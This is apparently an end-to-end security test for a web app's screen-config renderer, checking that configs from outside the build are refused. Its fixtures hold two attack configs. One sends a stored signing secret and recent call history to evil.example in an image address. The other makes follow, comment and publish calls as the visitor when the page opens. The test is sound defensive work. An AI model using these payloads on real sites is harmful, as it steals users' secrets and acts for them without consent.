// Issue 33, findings 1 and 2, replayed on the built app: a screen config from outside the build (pasted into the
// 调试 panel, typed into the playground; a published one gets the same check) that reads the `inspect` and
// `storage` sources and sends them to another host in a picture's address, or that follows, comments and
// publishes for the visitor the moment it opens, is refused with a message naming the capability (in the 调试
// panel's list, and to the visitor on the page itself), and nothing of it runs: no request leaves for the other host, no writing call is made.
import type { Page, Request } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { useBrowser } from '../e2e/browser.ts'
import { openPasted } from './pasted.ts'
import { openAsResident } from '../e2e/session.ts'

const b = useBrowser()
const WAIT = { timeout: 15_000 }

const screen = (rest: Record<string, unknown>) => ({
  $schema: '../../schemas/screen.schema.json',
  id: 'activity/prize',
  routes: [{ path: '/activity/prize', auth: 'none' }],
  title: '抽奖活动',
  ...rest,
})

/** The attack of finding 1: her last calls and stored keys, sent off the site in a picture's address. */
const EXFILTRATING = screen({
  data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
  body: [
    { type: 'text', text: '恭喜中奖' },
    { type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '奖品' },
  ],
})

/** The attack of finding 2: writing calls run as the visitor when the page opens. */
const AUTO_POSTING = screen({
  enter: [
    { action: 'call', call: 'homepage.follow', args: { accountCode: 'evil', follow: true } },
    { action: 'call', call: 'content.comment', args: { contentId: '1', content: '好文' } },
    { action: 'call', call: 'academic.saveArticle', args: { title: 'x' } },
  ],
  body: [{ type: 'text', text: '恭喜中奖' }],
})

/** Every request the page makes from now on. */
function recordRequests(page: Page): Request[] {
  const seen: Request[] = []
  page.on('request', (r) => seen.push(r))
  return seen
}

const editor = (page: Page) => page.getByRole('textbox', { name: '页面配置（JSON）' })
const problems = (page: Page) => page.getByRole('list', { name: '配置问题' }).getByRole('button').allInnerTexts()

describe('a screen config from outside the build', () => {
  it('that reads inspect and storage and sends them off the site is refused, naming each capability', async () => {
    const page = b.page()
    const requests = recordRequests(page)
    await page.goto(b.url('/debug/playground'))
    await editor(page).fill(JSON.stringify(EXFILTRATING, null, 2))
    await expect
      .poll(() => problems(page), WAIT)
      .toEqual([
        expect.stringMatching(/\/data\/calls\s*来自构建之外的页面不允许这样做（能力：数据源）：“inspect”数据源/),
        expect.stringMatching(/\/data\/secret\s*.*（能力：数据源）：“storage”数据源/),
        expect.stringMatching(/\/body\/1\/src\s*.*（能力：图片）：“https:\/\/evil\.example/),
      ])
    expect(await page.getByTestId('playground-screen').getByText('恭喜中奖').count()).toBe(0)
    expect(requests.filter((r) => r.url().includes('evil.example'))).toEqual([])
  })

  it('that writes for the visitor on opening is refused, naming each call', async () => {
    const page = b.page()
    await page.goto(b.url('/debug/playground'))
    await editor(page).fill(JSON.stringify(AUTO_POSTING, null, 2))
    await expect
      .poll(() => problems(page), WAIT)
      .toEqual([
        expect.stringMatching(/\/enter\/0\/call\s*.*（能力：写操作）：“homepage\.follow”会修改数据/),
        expect.stringMatching(/\/enter\/1\/call\s*.*“content\.comment”会修改数据/),
        expect.stringMatching(/\/enter\/2\/call\s*.*“academic\.saveArticle”会修改数据/),
      ])
  })

  it('pasted for /debug/pasted, as the resident after her user centre: nothing of it runs', async () => {
    // A refused config is reported to monitoring (ScreenHost), which the built app's preview has no endpoint for.
    b.expectErrors(/monitor\/error\/report/)
    const page = b.page()
    await openAsResident(page, b.url('/health/client/user-center'))
    await page.getByText('林晓燕').first().waitFor(WAIT)
    const requests = recordRequests(page)
    // The production build says which capability was refused (not the generic failure page, whose 刷新 would
    // only be refused again).
    const refusals: Array<[object, string[]]> = [
      [EXFILTRATING, ['读取本机保存的数据或最近的请求', '从其他网站加载图片']],
      [AUTO_POSTING, ['打开时未经点击替您修改数据']],
    ]
    for (const [config, capabilities] of refusals) {
      await openPasted(page, b.url, config)
      const refused = page.locator('[data-page="refused"]')
      await refused.getByText('页面已被拦截').waitFor(WAIT)
      expect(await refused.locator('li').allInnerTexts()).toEqual(capabilities)
      expect(await page.getByText('页面暂时无法访问').count()).toBe(0)
      expect(await page.getByText('恭喜中奖').count()).toBe(0)
    }
    expect(requests.filter((r) => r.url().includes('evil.example'))).toEqual([])
    const writes = requests.filter((r) => /\/(user\/follow|comment\/add|article)/.test(r.url()))
    expect(writes.map((r) => r.url())).toEqual([])
  })
})
